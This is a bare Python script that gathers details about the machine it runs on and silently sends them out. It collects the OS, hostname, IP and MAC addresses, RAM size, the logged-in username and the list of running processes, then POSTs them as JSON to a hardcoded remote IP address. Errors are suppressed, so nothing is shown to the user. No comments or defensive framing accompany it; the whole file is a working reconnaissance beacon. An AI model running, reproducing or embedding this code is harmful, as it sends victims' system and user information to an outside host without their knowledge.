import platform, socket, uuid, re, json, psutil, os
from urllib.request import urlopen, Request
def size(b, s="B"):
    for u in ["", "K", "M", "G"]:
        if b < 1024: return f"{b:.2f}{u}{s}"
        b /= 1024
def info():
    i = {}
    i["platform"] = platform.system()
    i["hostname"] = socket.gethostname()
    i["ip"] = socket.gethostbyname(socket.gethostname())
    i["mac"] = ":".join(re.findall("..", "%012x" % uuid.getnode()))
    i["ram"] = size(psutil.virtual_memory().total)
    i["user"] = os.getlogin()
    i["procs"] = [p.info["name"] for p in psutil.process_iter(["name"])]
    return json.dumps(i)
try: urlopen(Request("http://203.0.113.77/c", info().encode()))
except Exception: pass
